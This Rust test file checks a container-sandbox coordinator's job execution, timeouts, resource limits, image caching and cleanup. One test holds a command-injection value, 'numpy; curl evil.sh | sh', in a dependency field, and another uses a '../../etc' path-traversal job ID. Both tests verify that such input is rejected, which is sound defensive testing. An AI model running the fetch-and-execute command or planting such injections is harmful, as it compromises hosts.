mod common;

use common::*;

use rentbox_core::prelude::*;
use rentbox_sandbox::prelude::*;

use std::time::{Duration, Instant};

fn setup(behavior: Behavior) -> (FakeEngine, Coordinator<FakeEngine>, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let engine = FakeEngine::new(behavior);
    let coordinator = Coordinator::new(engine.clone(), test_config(dir.path())).unwrap();
    (engine, coordinator, dir)
}

fn assert_released(engine: &FakeEngine, coordinator: &Coordinator<FakeEngine>, dir: &tempfile::TempDir) {
    assert_eq!(engine.container_count(), 0, "container left behind");
    assert!(engine.job_images().is_empty(), "job image left behind");
    assert!(coordinator.active_jobs().is_empty());
    let leftovers: Vec<_> = std::fs::read_dir(dir.path()).unwrap().collect();
    assert!(leftovers.is_empty(), "temp paths left behind: {leftovers:?}");
}

#[tokio::test]
async fn completed_job_returns_output_and_releases_everything() {
    let (engine, coordinator, dir) = setup(Behavior::default());

    let result = coordinator
        .execute(JobRequest {
            job_id: Some("job-1".into()),
            ..request("python", "print('hello')")
        })
        .await;

    assert_eq!(result.job_id, "job-1");
    assert_eq!(result.status, JobStatus::Completed);
    assert_eq!(result.output, "hello\n");
    assert_eq!(result.error, "");
    assert_eq!(result.exit_code, Some(0));
    assert_released(&engine, &coordinator, &dir);

    // The base image stays cached.
    assert_eq!(engine.image_tags().len(), 1);
    assert!(engine.image_tags()[0].starts_with("rentbox-base-python:"));
}

#[tokio::test]
async fn generated_job_ids_are_unique() {
    let (_engine, coordinator, _dir) = setup(Behavior::default());
    let a = coordinator.execute(request("js", "1")).await;
    let b = coordinator.execute(request("js", "2")).await;
    assert!(!a.job_id.is_empty());
    assert_ne!(a.job_id, b.job_id);
}

#[tokio::test]
async fn containers_are_locked_down() {
    let (engine, coordinator, _dir) = setup(Behavior::default());
    coordinator
        .execute(JobRequest {
            job_id: Some("locked".into()),
            ..request("python", "print(1)")
        })
        .await;

    let spec = engine.last_spec().unwrap();
    assert_eq!(spec.name, "rentbox-job-locked");
    assert_eq!(spec.image, "rentbox-job:locked");
    assert_eq!(spec.user, SANDBOX_USER);
    assert_eq!(spec.limits, ResourceLimits::default());
    assert_eq!(spec.labels.get(labels::JOB).map(String::as_str), Some("locked"));
}

#[tokio::test]
async fn job_image_holds_the_source() {
    let (engine, coordinator, _dir) = setup(Behavior::default());
    coordinator
        .execute(JobRequest {
            job_id: Some("src".into()),
            ..request("javascript", "console.log(1)")
        })
        .await;

    let dockerfile = engine.dockerfile("rentbox-job:src").unwrap();
    assert!(dockerfile.contains("COPY main.js /sandbox/main.js"));
    assert!(dockerfile.contains(r#"CMD ["node","main.js"]"#));
}

#[tokio::test]
async fn non_zero_exit_fails_but_keeps_output() {
    let (engine, coordinator, dir) = setup(Behavior {
        program: Program::prints("Traceback: boom\n").exits(1),
        ..Default::default()
    });

    let result = coordinator.execute(request("python", "raise SystemExit(1)")).await;

    assert_eq!(result.status, JobStatus::Failed);
    assert_eq!(result.exit_code, Some(1));
    assert!(result.output.contains("Traceback"));
    assert!(result.error.contains("exited with code 1"));
    assert_released(&engine, &coordinator, &dir);
}

#[tokio::test]
async fn memory_ceiling_is_reported() {
    let (engine, coordinator, dir) = setup(Behavior {
        program: Program::prints("").oom(),
        ..Default::default()
    });

    let result = coordinator.execute(request("python", "x = ' ' * 10**10")).await;

    assert_eq!(result.status, JobStatus::Failed);
    assert!(result.error.contains("Memory limit of 512 MiB exceeded"), "{}", result.error);
    assert_released(&engine, &coordinator, &dir);
}

#[tokio::test]
async fn timeout_kills_and_keeps_partial_output() {
    let (engine, coordinator, dir) = setup(Behavior {
        program: Program::prints("partial line\n").hangs(),
        ..Default::default()
    });

    let started = Instant::now();
    let result = coordinator
        .execute(JobRequest {
            timeout_ms: Some(200),
            ..request("python", "while True: pass")
        })
        .await;

    assert_eq!(result.status, JobStatus::TimedOut);
    assert_eq!(result.output, "partial line\n");
    assert_eq!(result.error, "Execution timed out after 200 ms");
    assert_eq!(result.exit_code, None);
    assert!(result.execution_time_ms >= 200);
    assert!(started.elapsed() < Duration::from_secs(2));
    assert_released(&engine, &coordinator, &dir);
}

/// Answers after longer than any job in these tests runs.
#[derive(Clone)]
struct SlowGpu;

impl GpuProbe for SlowGpu {
    async fn utilization(&self) -> Option<f64> {
        tokio::time::sleep(Duration::from_millis(1500)).await;
        Some(50.0)
    }
}

#[tokio::test]
async fn slow_gpu_probe_does_not_delay_the_timeout() {
    let dir = tempfile::tempdir().unwrap();
    let engine = FakeEngine::new(Behavior {
        program: Program::prints("").hangs(),
        ..Default::default()
    });
    let coordinator = Coordinator::with_gpu_probe(engine, test_config(dir.path()), SlowGpu).unwrap();

    let started = Instant::now();
    let result = coordinator
        .execute(JobRequest {
            timeout_ms: Some(200),
            ..request("python", "while True: pass")
        })
        .await;

    assert_eq!(result.status, JobStatus::TimedOut);
    assert!(result.execution_time_ms < 1_000, "{}", result.execution_time_ms);
    assert!(started.elapsed() < Duration::from_millis(1_400), "{:?}", started.elapsed());
}

#[tokio::test]
async fn requested_timeout_is_clamped() {
    let dir = tempfile::tempdir().unwrap();
    let engine = FakeEngine::new(Behavior {
        program: Program::prints("").hangs(),
        ..Default::default()
    });
    let config = SandboxConfig {
        max_timeout_ms: 150,
        default_timeout_ms: 100,
        ..test_config(dir.path())
    };
    let coordinator = Coordinator::new(engine, config).unwrap();

    let result = coordinator
        .execute(JobRequest {
            timeout_ms: Some(3_600_000),
            ..request("python", "")
        })
        .await;

    assert_eq!(result.status, JobStatus::TimedOut);
    assert_eq!(result.error, "Execution timed out after 150 ms");
}

#[tokio::test]
async fn unsupported_language_creates_nothing() {
    let (engine, coordinator, dir) = setup(Behavior::default());

    let result = coordinator.execute(request("cobol", "DISPLAY 'HI'.")).await;

    assert_eq!(result.status, JobStatus::Failed);
    assert_eq!(result.error, "Unsupported language: cobol");
    assert_eq!(engine.base_builds(), 0);
    assert_eq!(engine.job_builds(), 0);
    assert!(engine.image_tags().is_empty());
    assert_released(&engine, &coordinator, &dir);
}

#[tokio::test]
async fn malformed_job_id_is_rejected() {
    let (engine, coordinator, _dir) = setup(Behavior::default());

    let result = coordinator
        .execute(JobRequest {
            job_id: Some("../../etc".into()),
            ..request("python", "")
        })
        .await;

    assert_eq!(result.status, JobStatus::Failed);
    assert!(result.error.starts_with("Invalid request"));
    assert_eq!(engine.base_builds(), 0);
}

#[tokio::test]
async fn dependency_failure_is_reported_and_not_cached() {
    let (engine, coordinator, dir) = setup(Behavior {
        failing_base_builds: 1,
        ..Default::default()
    });
    let job = JobRequest {
        dependencies: deps(&["no-such-package-xyz"]),
        ..request("python", "import x")
    };

    let failed = coordinator.execute(job.clone()).await;
    assert_eq!(failed.status, JobStatus::Failed);
    assert!(failed.error.starts_with("Dependency resolution failed"), "{}", failed.error);
    assert_eq!(engine.job_builds(), 0);
    assert_released(&engine, &coordinator, &dir);

    let retried = coordinator.execute(job).await;
    assert_eq!(retried.status, JobStatus::Completed);
    assert_eq!(engine.base_builds(), 2);
}

#[tokio::test]
async fn invalid_dependency_never_reaches_the_engine() {
    let (engine, coordinator, _dir) = setup(Behavior::default());

    let result = coordinator
        .execute(JobRequest {
            dependencies: deps(&["numpy; curl evil.sh | sh"]),
            ..request("python", "")
        })
        .await;

    assert_eq!(result.status, JobStatus::Failed);
    assert!(result.error.starts_with("Dependency resolution failed"));
    assert_eq!(engine.base_builds(), 0);
}

#[tokio::test]
async fn job_image_failure_is_cleaned_up() {
    let (engine, coordinator, dir) = setup(Behavior {
        fail_job_build: true,
        ..Default::default()
    });

    let result = coordinator.execute(request("python", "print(1)")).await;

    assert_eq!(result.status, JobStatus::Failed);
    assert!(result.error.starts_with("Image build failed"));
    assert_released(&engine, &coordinator, &dir);
}

#[tokio::test]
async fn base_image_is_reused_for_reordered_dependencies() {
    let (engine, coordinator, _dir) = setup(Behavior::default());

    for list in [&["requests", "numpy"][..], &["numpy", "requests"], &["numpy", "requests", "numpy"]] {
        let result = coordinator
            .execute(JobRequest {
                dependencies: deps(list),
                ..request("python", "import numpy")
            })
            .await;
        assert_eq!(result.status, JobStatus::Completed);
    }

    assert_eq!(engine.base_builds(), 1);
    assert_eq!(engine.job_builds(), 3);
}

#[tokio::test]
async fn concurrent_jobs_share_one_base_build() {
    let (engine, coordinator, dir) = setup(Behavior {
        build_delay: Duration::from_millis(100),
        ..Default::default()
    });

    let jobs = (0..4).map(|i| {
        coordinator.execute(JobRequest {
            job_id: Some(format!("parallel-{i}")),
            dependencies: deps(&["lodash"]),
            ..request("node", "require('lodash')")
        })
    });
    let results = futures::future::join_all(jobs).await;

    assert!(results.iter().all(|r| r.status == JobStatus::Completed));
    assert_eq!(engine.base_builds(), 1);
    assert_released(&engine, &coordinator, &dir);
}

#[tokio::test]
async fn dropped_base_image_outlives_overlapping_jobs() {
    let dir = tempfile::tempdir().unwrap();
    let engine = FakeEngine::new(Behavior {
        build_delay: Duration::from_millis(200),
        program: Program {
            runtime: Some(Duration::from_millis(20)),
            ..Program::prints("ok\n")
        },
        ..Default::default()
    });
    let config = SandboxConfig {
        keep_base_images: false,
        ..test_config(dir.path())
    };
    let coordinator = Coordinator::new(engine.clone(), config).unwrap();

    let job = |id: &str| JobRequest {
        job_id: Some(id.into()),
        dependencies: deps(&["numpy"]),
        ..request("python", "import numpy")
    };
    let first = tokio::spawn({
        let coordinator = coordinator.clone();
        let request = job("first");
        async move { coordinator.execute(request).await }
    });
    // Joins once the shared base is ready and is still building its own image
    // when the first job is cleaned up.
    tokio::time::sleep(Duration::from_millis(300)).await;
    let second = coordinator.execute(job("second")).await;
    let first = first.await.unwrap();

    assert_eq!(first.status, JobStatus::Completed, "{}", first.error);
    assert_eq!(second.status, JobStatus::Completed, "{}", second.error);
    assert_eq!(engine.base_builds(), 1);
    assert!(engine.image_tags().is_empty(), "{:?}", engine.image_tags());
    assert!(coordinator.ledger().is_empty());
}

#[tokio::test]
async fn dropping_base_images_keeps_dependency_free_ones() {
    let dir = tempfile::tempdir().unwrap();
    let engine = FakeEngine::default();
    let config = SandboxConfig {
        keep_base_images: false,
        ..test_config(dir.path())
    };
    let coordinator = Coordinator::new(engine.clone(), config).unwrap();

    let with_deps = coordinator
        .execute(JobRequest {
            dependencies: deps(&["requests"]),
            ..request("python", "import requests")
        })
        .await;
    assert_eq!(with_deps.status, JobStatus::Completed);
    assert!(engine.image_tags().is_empty());

    let plain = coordinator.execute(request("python", "print(1)")).await;
    assert_eq!(plain.status, JobStatus::Completed);
    assert_eq!(engine.image_tags().len(), 1);
    assert_released(&engine, &coordinator, &dir);
}

#[tokio::test]
async fn duplicate_active_job_id_is_rejected() {
    let (_engine, coordinator, _dir) = setup(Behavior {
        program: Program::prints("").hangs(),
        ..Default::default()
    });

    let first = coordinator.execute(JobRequest {
        job_id: Some("same".into()),
        timeout_ms: Some(300),
        ..request("python", "")
    });
    let second = async {
        tokio::time::sleep(Duration::from_millis(50)).await;
        coordinator
            .execute(JobRequest {
                job_id: Some("same".into()),
                ..request("python", "")
            })
            .await
    };
    let (first, second) = tokio::join!(first, second);

    assert_eq!(first.status, JobStatus::TimedOut);
    assert_eq!(second.status, JobStatus::Failed);
    assert!(second.error.contains("already running"));
}

#[tokio::test]
async fn engine_panic_becomes_internal_error() {
    let (engine, coordinator, dir) = setup(Behavior {
        panic_on_start: true,
        ..Default::default()
    });

    let result = coordinator.execute(request("python", "print(1)")).await;

    assert_eq!(result.status, JobStatus::Failed);
    assert_eq!(result.error, "Internal sandbox error");
    assert_released(&engine, &coordinator, &dir);
}

#[tokio::test]
async fn cleanup_failures_do_not_change_the_result() {
    let (engine, coordinator, _dir) = setup(Behavior {
        fail_image_removal: true,
        ..Default::default()
    });

    let result = coordinator.execute(request("python", "print(1)")).await;

    assert_eq!(result.status, JobStatus::Completed);
    assert_eq!(engine.container_count(), 0);
    let records = coordinator.ledger().drain();
    assert_eq!(records.len(), 1);
    assert_eq!(records[0].error.kind, ResourceKind::Image);
}

#[tokio::test]
async fn dropped_caller_still_gets_cleanup() {
    let (engine, coordinator, dir) = setup(Behavior {
        program: Program::prints("").hangs(),
        ..Default::default()
    });

    let abandoned = tokio::time::timeout(
        Duration::from_millis(50),
        coordinator.execute(JobRequest {
            timeout_ms: Some(200),
            ..request("python", "")
        }),
    )
    .await;
    assert!(abandoned.is_err());

    tokio::time::sleep(Duration::from_millis(600)).await;
    assert_released(&engine, &coordinator, &dir);
}

#[tokio::test]
async fn output_is_capped() {
    let dir = tempfile::tempdir().unwrap();
    let engine = FakeEngine::new(Behavior {
        program: Program::prints(&"x".repeat(10_000)),
        ..Default::default()
    });
    let config = SandboxConfig {
        max_output_bytes: 100,
        ..test_config(dir.path())
    };
    let coordinator = Coordinator::new(engine, config).unwrap();

    let result = coordinator.execute(request("python", "print('x' * 10000)")).await;

    assert_eq!(result.status, JobStatus::Completed);
    assert!(result.output.starts_with(&"x".repeat(100)));
    assert!(result.output.ends_with(TRUNCATION_MARKER));
}

#[tokio::test]
async fn usage_is_reported_within_bounds() {
    let sample = |cpu, sys, mem| StatsSample {
        cpu_total_usage: Some(cpu),
        system_cpu_usage: Some(sys),
        online_cpus: Some(2),
        memory_usage: Some(mem),
    };
    let (_engine, coordinator, _dir) = setup(Behavior {
        program: Program {
            runtime: Some(Duration::from_millis(100)),
            ..Program::prints("busy\n")
        },
        stats: vec![
            sample(1_000, 10_000, 1024),
            sample(3_000, 12_000, 4096),
            sample(5_000, 14_000, 8192),
        ],
        ..Default::default()
    });

    let result = coordinator.execute(request("python", "")).await;

    let usage = result.resource_usage;
    assert!(usage.cpu_percent > 0.0 && usage.cpu_percent <= 200.0, "{usage:?}");
    assert_eq!(usage.memory_bytes, 8192);
    assert_eq!(usage.gpu_utilization_percent, 0.0);
}

#[tokio::test]
async fn sweep_removes_orphans_but_keeps_base_images() {
    let (engine, coordinator, dir) = setup(Behavior::default());
    coordinator.execute(request("python", "print(1)")).await;
    let base = engine.image_tags();

    let orphan = |kind: &str, job: &str| {
        std::collections::HashMap::from([
            (labels::MANAGED.to_string(), "true".to_string()),
            (labels::KIND.to_string(), kind.to_string()),
            (labels::JOB.to_string(), job.to_string()),
        ])
    };
    engine.insert_container("rentbox-job-crashed", orphan("job", "crashed"));
    engine.insert_image("rentbox-job:crashed", orphan("job", "crashed"));
    std::fs::create_dir_all(dir.path().join("crashed")).unwrap();

    let report = coordinator.sweep(false).await.unwrap();
    assert_eq!(report.containers, 1);
    assert_eq!(report.images, 1);
    assert_eq!(report.temp_paths, 1);
    assert!(report.failures.is_empty());
    assert_eq!(engine.image_tags(), base);

    let report = coordinator.sweep(true).await.unwrap();
    assert_eq!(report.base_tags, base);
    assert!(engine.image_tags().is_empty());

    // The forgotten base image is rebuilt on demand.
    let result = coordinator.execute(request("python", "print(1)")).await;
    assert_eq!(result.status, JobStatus::Completed);
    assert_eq!(engine.base_builds(), 2);
}

#[tokio::test]
async fn ping_reaches_the_engine() {
    let (_engine, coordinator, _dir) = setup(Behavior::default());
    coordinator.ping().await.unwrap();
}
